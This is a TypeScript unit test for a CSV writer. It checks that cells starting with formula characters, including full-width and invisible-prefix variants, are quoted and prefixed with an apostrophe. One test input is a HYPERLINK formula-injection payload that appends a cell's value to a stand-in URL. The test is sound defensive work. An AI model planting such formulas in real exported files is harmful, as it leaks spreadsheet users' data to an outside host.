import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { csvLine } from './csv.ts'

describe('a line of a file for spreadsheets', () => {
  const cells: [given: string | number | undefined, written: string][] = [
    [7, '7'],
    [undefined, ''],
    ['', ''],
    ['EZFF-CRJQ-22GW-6', 'EZFF-CRJQ-22GW-6'],
    ['2026-05-01T09:00:00.000Z', '2026-05-01T09:00:00.000Z'],
    ['ann@example.com', '"ann@example.com"'],
    ['김 하나', '"김 하나"'],
    ['a "b", c', '"a ""b"", c"'],
    ['a;=1+1', '"a;=1+1"'],
    ['=1+1', `"'=1+1"`],
    ['+82101234567', `"'+82101234567"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    [' =1', `"' =1"`],
    ['\u3000＝1', `"'\u3000＝1"`],
    ['＋1', `"'＋1"`],
    ['\u200b=1', `"'\u200b=1"`],
    ['\t=1', `"'\t=1"`],
    [`=HYPERLINK("http://x?"&A1)`, `"'=HYPERLINK(""http://x?""&A1)"`],
  ]
  for (const [given, written] of cells) {
    it(`writes ${JSON.stringify(given)} as ${JSON.stringify(written)}`, () => {
      assert.equal(csvLine([1, given, 2]), `1,${written},2\r\n`)
    })
  }
})
